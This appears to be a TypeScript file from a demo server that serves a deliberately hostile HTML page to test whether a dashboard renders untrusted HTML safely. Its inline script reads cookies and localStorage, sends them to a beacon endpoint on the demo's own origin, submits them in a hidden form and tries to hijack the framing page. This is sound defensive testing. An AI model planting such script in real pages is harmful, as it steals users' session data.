import type { FastifyRequest } from 'fastify';
import { type DemoPage, HTML, htmlDocument } from '../demo-page';

/**
 * Beacons point at the demo web's own origin, absolute, so they still phone home when the HTML
 * is shown somewhere else (a dashboard's srcdoc iframe on another port). A Host header that is
 * not a plain host[:port] falls back to relative URLs rather than ending up inside the markup.
 */
export function ownOrigin(request: FastifyRequest): string {
  return /^[a-z0-9.-]+(:\d{1,5})?$|^\[[0-9a-f:.]+\](:\d{1,5})?$/i.test(request.host)
    ? `${request.protocol}://${request.host}`
    : '';
}

const hostilePage = (origin: string) => {
  const beacon = (via: string) => `${origin}/beacon?via=${via}`;
  return htmlDocument({
    title: 'Hostile page',
    head: `  <meta http-equiv="refresh" content="5;url=${beacon('meta-refresh')}">
  <link rel="stylesheet" href="${beacon('css')}">
  <script src="${beacon('script-src')}"></script>`,
    body: `<main>
  <h1>Hostile page</h1>
  <p>This page has real content, and it also tries everything a malicious page tries: scripts, beacons,
  reading cookies and storage, reaching into the page that frames it, navigating it, and submitting a form.
  Shown safely, none of it happens and ${origin}/beacon/count stays at zero.</p>
</main>
<img src="${beacon('img')}" alt="" width="1" height="1">
<iframe src="${beacon('iframe')}" title="Tracker" width="1" height="1"></iframe>
<form id="beacon-form" method="post" action="${beacon('form')}"><input type="hidden" name="stolen" value=""></form>
<script>
  (function () {
    var stolen = '';
    try { stolen += document.cookie; } catch (e) {}
    try { stolen += JSON.stringify(Object.assign({}, localStorage)); } catch (e) {}
    try { fetch('${beacon('fetch')}', { mode: 'no-cors' }); } catch (e) {}
    try { navigator.sendBeacon('${beacon('sendBeacon')}', stolen); } catch (e) {}
    try { new Image().src = '${beacon('image-js')}'; } catch (e) {}
    // Only a framing page is the target: unframed, parent is this very window.
    try { if (window.parent !== window) window.parent.document.title = 'pwned'; } catch (e) {}
    try { window.top.location = '${beacon('top-navigation')}'; } catch (e) {}
    try {
      var form = document.getElementById('beacon-form');
      form.elements.stolen.value = stolen;
      form.submit();
    } catch (e) {}
  })();
</script>`,
  });
};

export const hostile: DemoPage = {
  path: '/hostile',
  description: 'Real content plus scripts, beacons and frame-busting that must never run when it is shown.',
  register: (app) => {
    app.get('/hostile', async (request, reply) => reply.type(HTML).send(hostilePage(ownOrigin(request))));
  },
};
